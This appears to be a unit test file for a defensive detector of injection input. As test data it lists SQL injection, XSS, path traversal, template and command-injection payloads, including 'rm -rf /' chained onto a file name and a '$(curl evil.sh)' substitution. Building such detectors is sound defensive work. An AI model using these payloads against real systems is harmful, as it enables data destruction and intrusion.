import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectSuspicious } from '../src/index.js';

const rulesOf = (value: unknown) => detectSuspicious(value).map((f) => f.rule);

describe('detectSuspicious', () => {
  it.each([
    ["1' OR '1'='1", 'sqli.tautology'],
    ['1 UNION ALL SELECT password FROM users', 'sqli.union-select'],
    ['x; DROP TABLE users', 'sqli.stacked-query'],
    ["admin'--", 'sqli.comment-after-quote'],
    ['1 AND SLEEP(5)', 'sqli.time-based'],
    ['<ScRiPt>alert(1)</script>', 'xss.script-tag'],
    ['<img src=x onerror=alert(1)>', 'xss.event-handler'],
    ['JaVaScRiPt:alert(1)', 'xss.javascript-url'],
    ['<svg/onload=alert(1)>', 'xss.dangerous-tag'],
    ['../../etc/passwd', 'traversal.dot-dot'],
    ['..%2f..%2fetc%2fshadow', 'traversal.system-file'],
    ['\uFF0E\uFF0E/secret', 'traversal.dot-dot'], // fullwidth dots, NFKC
    ['a.txt; rm -rf /', 'command.chained'],
    ['$(curl evil.sh)', 'command.substitution'],
    ['{{7*7}}', 'template.expression'],
  ])('finds %j', (payload, rule) => {
    expect(rulesOf(payload)).toContain(rule);
  });

  it('reports where in a body, and NoSQL operators only as keys, without echoing the input', () => {
    const findings = detectSuspicious({ user: { name: { $ne: null } }, note: '$ne', list: ['ok', '<script>'] });
    expect(findings).toEqual([
      { rule: 'nosql.operator', category: 'nosql', path: 'user.name.$ne' },
      { rule: 'xss.script-tag', category: 'xss', path: 'list.1' },
    ]);
    expect(JSON.stringify(findings)).not.toContain('<script>');
  });

  it.each([
    "O'Brien",
    'Rock & roll; or not',
    'Meet at 10:30 -- bring snacks',
    'a/b/c.txt',
    'The union of sets is selected carefully',
    'price is $5 (approx)',
    'I <3 cats',
    'version 1.2.3',
  ])('leaves ordinary text alone: %j', (text) => {
    expect(detectSuspicious(text)).toEqual([]);
  });

  it('takes time linear in the input, whatever it holds', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (s) => {
        // any text: an answer, each finding about the string itself, from a known category, and the same twice
        const findings = detectSuspicious(s);
        for (const f of findings) {
          expect(f.path).toBe('');
          expect(['sqli', 'xss', 'traversal', 'command', 'template']).toContain(f.category);
          expect(f.rule.startsWith(`${f.category}.`)).toBe(true);
        }
        expect(detectSuspicious(s)).toEqual(findings);
      }),
    );
    const hostile = `'${' or '.repeat(2_000)}<${'a'.repeat(5_000)}`;
    const started = process.hrtime.bigint();
    detectSuspicious(hostile, { maxLength: 20_000 });
    // A backtracking engine on these patterns would be quadratic or worse here; RE2 is linear. A bound that cannot flake.
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(5_000);
  });

  it('stops at maxDepth and maxLength', () => {
    const deep = { a: { b: { c: '<script>' } } };
    expect(detectSuspicious(deep, { maxDepth: 2 })).toEqual([]);
    expect(detectSuspicious(`${'x'.repeat(100)}<script>`, { maxLength: 50 })).toEqual([]);
  });
});
